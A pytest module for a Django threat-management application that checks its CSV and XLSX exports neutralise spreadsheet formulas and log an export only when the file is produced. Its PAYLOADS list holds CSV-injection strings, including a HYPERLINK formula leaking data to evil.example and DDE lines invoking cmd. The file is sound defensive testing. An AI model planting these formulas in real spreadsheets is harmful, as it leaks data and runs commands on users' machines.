"""Every CSV and XLSX export neutralises formulas and drops characters spreadsheets refuse, and an
export is recorded only when its file was produced."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.db.models import QuerySet
from openpyxl import load_workbook

from socmaster.core.importing import ImportResult, rejects_csv
from socmaster.core.models import AuditEntry
from socmaster.disruptions import services as disruption_services
from socmaster.disruptions.models import Disruption, Tactic
from socmaster.organisations.models import Organisation
from socmaster.plans import services as plan_services
from socmaster.threats.models import Threat

pytestmark = pytest.mark.django_db

#: The classic CSV-injection payloads (OWASP): =, +, -, @, tab, carriage return, HYPERLINK and DDE.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1+1",  # long enough to be an export reason (five characters) once trimmed
    "\r=1+1+1",
]
TODAY = dt.date.today()


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def _xlsx(response):
    assert response.status_code == 200, response
    return load_workbook(io.BytesIO(response.content)).active


def _assert_neutral_csv(cells: list[str]) -> None:
    """Each payload appears (perhaps trimmed, as reasons and plan text are), and only with a
    leading single quote. Carriage returns are compared as line feeds."""
    seen = {c.replace("\r", "\n") for c in cells}
    for payload in PAYLOADS:
        forms = {p.replace("\r", "\n") for p in (payload, payload.strip())}
        assert {"'" + f for f in forms} & seen, payload
        assert not forms & seen, payload


def _assert_neutral_xlsx(sheet) -> None:
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    # The XML reader turns a carriage return into a line feed; the quote is what matters.
    _assert_neutral_csv(texts)
    assert not [t for t in texts if t[:1] in "=+-@\t\r\n" and not _number(t)]


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.fixture
def analyst(make_user):
    return make_user("force-durham", "analyst", username="ana")


@pytest.fixture
def legacy_threats(org):
    """Threats as they may already be stored (older versions took any text)."""
    return [
        Threat.objects.create(reference=f"INJ-{i}", name=payload, owner=org("force-durham"))
        for i, payload in enumerate(PAYLOADS)
    ]


def test_safe_cell_neutralises_formulas_and_keeps_numbers_and_dates():
    from socmaster.core.exports import safe_cell

    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("Bell\x07 and NUL\x00 gone") == "Bell and NUL gone"
    assert safe_cell("\x07=1+1") == "'=1+1"  # stripped first, then neutralised
    assert safe_cell(-3) == -3 and safe_cell(Decimal("-2.50")) == Decimal("-2.50")
    assert safe_cell(2.5) == 2.5 and safe_cell(dt.date(2025, 1, 2)) == dt.date(2025, 1, 2)
    assert safe_cell("-12") == "-12" and safe_cell("+3.5") == "+3.5"  # numbers, not formulas
    assert safe_cell(None) == "" and safe_cell("Harbour network") == "Harbour network"
    assert safe_cell({"a": 1}) == "{'a': 1}"


def test_master_list_csv_and_xlsx_neutralise_every_payload(web, analyst, legacy_threats):
    client = web(analyst)
    rows = _csv(client.post("/threats/export.csv", {"reason": "Quarterly return"}))
    _assert_neutral_csv([r[1] for r in rows[1:]])
    _assert_neutral_xlsx(_xlsx(client.post("/threats/export.xlsx", {"reason": "Quarterly return"})))


def test_control_characters_in_stored_text_do_not_break_the_xlsx(web, analyst, org):
    from django.db import connection

    Threat.objects.create(reference="BELL-1", name="Bell\x07 group", owner=org("force-durham"))
    expected = ["Bell group"]
    if connection.vendor == "sqlite":  # PostgreSQL cannot store a NUL at all
        Threat.objects.create(reference="NUL-1", name="Nul\x00 group", owner=org("force-durham"))
        expected.append("Nul group")
    client = web(analyst)
    sheet = _xlsx(client.post("/threats/export.xlsx", {"reason": "Quarterly return"}))
    names = [r[1] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert names == expected
    rows = _csv(client.post("/threats/export.csv", {"reason": "Quarterly return"}))
    assert [r[1] for r in rows[1:]] == expected


def test_audit_csv_neutralises_every_payload(web, analyst, make_user, legacy_threats):
    client = web(analyst)
    for payload in PAYLOADS:
        client.post("/threats/export.csv?tier=2", {"reason": payload})
    admin = make_user("force-durham", "administrator", username="adm")
    rows = _csv(web(admin).post("/audit/export.csv", {"reason": "Audit review"}))
    reason = rows[0].index("reason")
    _assert_neutral_csv([r[reason] for r in rows[1:]])


@pytest.fixture
def plan(org, make_user):
    lro = make_user("force-durham", "lro", username="lro")
    threat = Threat.objects.create(
        reference="PL-INJ", name="Harbour network", owner=org("force-durham"), lro=lro
    )
    plan = plan_services.create_plan(lro, threat, aim="Dismantle the harbour network.")
    for payload in PAYLOADS:  # descriptions are multi-line text: tab and CR are allowed
        plan_services.add_action(
            lro,
            plan,
            four_p="pursue",
            description=payload,
            owner_user=lro,
            start_date=TODAY,
            due_date=TODAY + dt.timedelta(days=30),
        )
    return lro, plan


def test_plan_actions_csv_and_xlsx_neutralise_every_payload(web, plan):
    lro, _ = plan
    client = web(lro)
    for url in ("/plans/actions.csv?scope=all", "/plans/PL-INJ/actions.csv"):
        rows = _csv(client.post(url, {"reason": "Partner meeting pack"}))
        column = rows[0].index("description")
        _assert_neutral_csv([r[column] for r in rows[1:]])
    for url in ("/plans/actions.xlsx?scope=all", "/plans/PL-INJ/actions.xlsx"):
        _assert_neutral_xlsx(_xlsx(client.post(url, {"reason": "Partner meeting pack"})))


def test_reports_extracts_and_commands_neutralise_every_payload(web, org, make_user, capsys):
    """The organisation's name reaches the disruption extract, the master-list extract, the
    plan-quality list and the command-line reports."""
    lro = make_user("force-durham", "lro", username="lro2")
    threat = Threat.objects.create(
        reference="EXT-1",
        name="n",
        owner=org("force-durham"),
        lro=lro,
        moderation_status="moderated",
        tier=2,
    )
    Disruption.objects.create(
        reference="EXT-D1",
        threat=threat,
        standard=disruption_services.current_standard(),
        event_date=TODAY - dt.timedelta(days=3),
        record_date=TODAY - dt.timedelta(days=1),
        recording_organisation=org("force-durham"),
        team="T",
        disruption_type="lead",
        four_p="pursue",
        category="major",
        tactic=Tactic.objects.get(code="arrest"),
        narrative="n",
        evidence="e",
        status="approved",
        recorder=lro,
    )
    client = web(lro)
    period = f"date_from={TODAY - dt.timedelta(days=30)}&date_to={TODAY}"
    found: dict[str, list[str]] = {}
    for payload in PAYLOADS:
        Organisation.objects.filter(key="force-durham").update(name=payload)
        for url in (
            f"/disruptions/extract.csv?{period}",
            f"/disruptions/report.csv?{period}",
            "/reports/masterlist-extract.csv",
            "/plans/export.csv",
        ):
            rows = _csv(client.post(url, {"reason": "Return"}))
            found.setdefault(url, []).extend(r[rows[0].index("organisation")] for r in rows[1:])
        call_command("report", "plan-quality", "--reason", "Safe export test")
        call_command(
            "extract",
            "disruptions",
            "--reason",
            "Safe export test",
            "--from",
            str(TODAY - dt.timedelta(days=30)),
            "--to",
            str(TODAY),
        )
        out = capsys.readouterr().out
        found.setdefault("cli", []).extend(c for r in csv.reader(io.StringIO(out)) for c in r)
    for url, cells in found.items():
        assert cells, url
        _assert_neutral_csv(cells)


def test_import_rejects_file_neutralises_every_payload():
    result = ImportResult(rejected=[{"Name": p, "Error": "bad"} for p in PAYLOADS])
    rows = list(csv.reader(io.StringIO(rejects_csv(result, ["Name"]))))
    _assert_neutral_csv([r[0] for r in rows[1:]])


# --- An export is recorded only when its file was produced ---------------------------------------


def _exports() -> int:
    return AuditEntry.objects.filter(action="export").count()


def test_failed_xlsx_records_no_export(web, analyst, legacy_threats, monkeypatch):
    import openpyxl

    def broken(self, *args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(openpyxl.Workbook, "save", broken)
    response = web(analyst).post("/threats/export.xlsx", {"reason": "Quarterly return"})
    assert response.status_code == 500
    assert "no export was recorded" in response.content.decode()
    assert _exports() == 0


def test_failed_csv_records_no_export(web, analyst, legacy_threats, monkeypatch):
    def broken(self):
        raise RuntimeError("broken record")

    monkeypatch.setattr(Threat, "get_handling_display", broken)
    response = web(analyst).post("/threats/export.csv", {"reason": "Quarterly return"})
    assert response.status_code == 500
    assert "no export was recorded" in response.content.decode()
    assert _exports() == 0


def test_failed_audit_csv_records_no_export(web, make_user, monkeypatch):
    admin = make_user("force-durham", "administrator", username="adm")
    client = web(admin)

    def broken(self, *args, **kwargs):
        raise RuntimeError("database gone")

    monkeypatch.setattr(QuerySet, "iterator", broken)
    response = client.post("/audit/export.csv", {"reason": "Audit review"})
    assert response.status_code == 500
    assert "no export was recorded" in response.content.decode()
    assert _exports() == 0
